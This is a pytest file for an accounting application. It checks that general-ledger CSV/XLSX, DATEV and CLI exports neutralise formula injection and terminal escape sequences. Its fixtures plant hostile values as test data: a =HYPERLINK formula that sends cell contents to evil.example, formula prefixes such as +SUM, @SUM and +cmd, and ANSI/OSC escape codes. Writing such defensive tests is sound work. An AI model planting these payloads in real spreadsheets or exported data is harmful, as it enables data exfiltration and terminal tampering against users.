"""Text that reaches files and terminals cannot become a formula or an escape sequence (cases security-18, -19,
-20): account names, alternative numbers, descriptions and references in the G/L CSV and XLSX, the DATEV file,
`kontor export csv` and `kontor report --format csv|table`.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest

from ledger.textsafe import looks_like_formula
from tests.conftest import Tenant
from tests.e2e.test_desk_cli import in_db, kontor, over_api

pytestmark = pytest.mark.timeout(120)
NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Revenue")'
ESCAPES = "Bank\x1b[2K\x1b[1G\x1b]0;pwned\x07"


@pytest.fixture
async def planted(tenant: Tenant) -> Tenant:
    """Formula-like text everywhere an admin or a poster can put text, booked in November 2026."""
    r = await tenant.client.patch(
        tenant.url("/accounts/8400"), json={"alt_number": "+SUM(A1:A9)"}, headers=tenant.headers()
    )
    assert r.status_code == 200, r.text
    return await _texts(tenant)


async def _texts(tenant: Tenant) -> Tenant:
    for number, name in (("8400", NAME), ("1200", "Bank\r=1+1")):
        r = await tenant.client.patch(tenant.url(f"/accounts/{number}"), json={"name": name}, headers=tenant.headers())
        assert r.status_code == 200, r.text
    for description, reference in (('=HYPERLINK("http://evil.example/","x")', "@SUM(1+1)"),
                                   ("\r=1+1 CR-led", "-1+1"), ("\t=1+1", "+cmd")):  # fmt: skip
        r = await tenant.post_entry(
            [{"account": "1200", "debit": "1.00"}, {"account": "8400", "credit": "1.00"}],
            date="2026-11-28",
            description=description,
            reference=reference,
        )
        assert r.status_code == 201, r.text
    return tenant


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not looks_like_formula(value), (value, row)


async def test_gl_csv_neutralises_formula_text(planted: Tenant) -> None:
    r = await planted.get("/periods/2026-11/gl-report", format="csv")
    assert r.status_code == 200
    rows = _csv_rows(r.text)
    assert len({len(row) for row in rows}) == 1  # a CR inside a name does not split its row
    _no_formula_cells(rows)
    revenue = next(row for row in rows if row[3] == "8400")
    assert (revenue[4], revenue[5]) == ("'+SUM(A1:A9)", "'" + NAME)


async def test_gl_xlsx_writes_every_text_as_a_string(planted: Tenant) -> None:
    r = await planted.get("/periods/2026-11/gl-report", format="xlsx")
    sheet = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml").decode()
    assert re.findall(r"<f>[^<]*</f>", sheet) == []
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    values = [[c.value for c in row] for row in book.active.iter_rows()]
    revenue = next(row for row in values if row[3] == "8400")
    assert (revenue[4], revenue[5]) == ("+SUM(A1:A9)", NAME)  # the text itself, kept as text by a quote prefix
    assert next(c for row in book.active.iter_rows() for c in row if c.value == NAME).quotePrefix


async def test_datev_text_fields_never_start_a_formula(tenant: Tenant) -> None:
    planted = await _texts(tenant)  # DATEV takes numeric accounts only: no formula-like alternative number here
    settings = {"consultant_number": 1001, "client_number": 1}
    assert (
        await planted.client.put(planted.url("/datev/settings"), json=settings, headers=planted.headers())
    ).is_success
    r = await planted.get("/periods/2026-11/datev")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("cp1252"), newline=""), delimiter=";"))
    assert len(rows) == 2 + 3
    _no_formula_cells(rows[2:])
    text = rows[1].index("Buchungstext")
    assert rows[2][text].startswith("'=HYPERLINK")


async def test_cli_journal_csv_quotes_cr_and_neutralises_formulas(planted: Tenant, app_url: str) -> None:
    code, out, err = await kontor("export", "csv", *over_api(planted, app_url), "--from", "2026-11-28")
    assert code == 0, err
    rows = _csv_rows(out)
    assert len(rows) == 1 + 6
    assert len({len(row) for row in rows}) == 1
    _no_formula_cells(rows)


async def test_cli_report_csv_keeps_rows_whole_and_tables_show_no_escape_sequences(
    planted: Tenant, app_url: str, database_url: str
) -> None:
    r = await planted.client.patch(planted.url("/accounts/1776"), json={"name": ESCAPES}, headers=planted.headers())
    assert r.status_code == 200
    vat = await planted.post_entry(
        [{"account": "1200", "debit": "1.00"}, {"account": "1776", "credit": "1.00"}], date="2026-11-28"
    )
    assert vat.status_code == 201
    for target in (over_api(planted, app_url), in_db(planted)):
        code, out, err = await kontor("report", "trial-balance", *target, "--format", "csv", database_url=database_url)
        assert code == 0, err
        rows = _csv_rows(out)
        assert len({len(row) for row in rows}) == 1, rows
        _no_formula_cells(rows)
        code, table, err = await kontor("report", "trial-balance", *target, database_url=database_url)
        assert code == 0, err
        assert "\x1b" not in table
        assert "\x07" not in table
        assert "\r" not in table
        assert "Bank\\x1b[2K" in table
